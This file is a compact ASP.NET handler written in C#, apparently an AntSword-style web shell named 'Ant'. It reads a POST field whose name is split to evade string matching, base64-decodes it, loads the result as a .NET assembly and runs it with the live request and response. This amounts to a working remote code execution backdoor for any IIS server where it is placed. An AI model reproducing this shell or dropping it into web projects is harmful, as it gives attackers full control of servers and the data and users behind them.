<%@ WebHandler Language="C#" Class="Ant" %>
using System;
using System.Web;

public class Ant : IHttpHandler
{
    public void ProcessRequest(HttpContext ctx)
    {
        string p = ctx.Request.Form["a" + "nt"];
        if (p == null) return;
        var asm = System.Reflection.Assembly.Load(Convert.FromBase64String(p));
        asm.CreateInstance(asm.GetTypes()[0].Name).Equals(new object[] { ctx.Request, ctx.Response });
    }
    public bool IsReusable { get { return false; } }
}
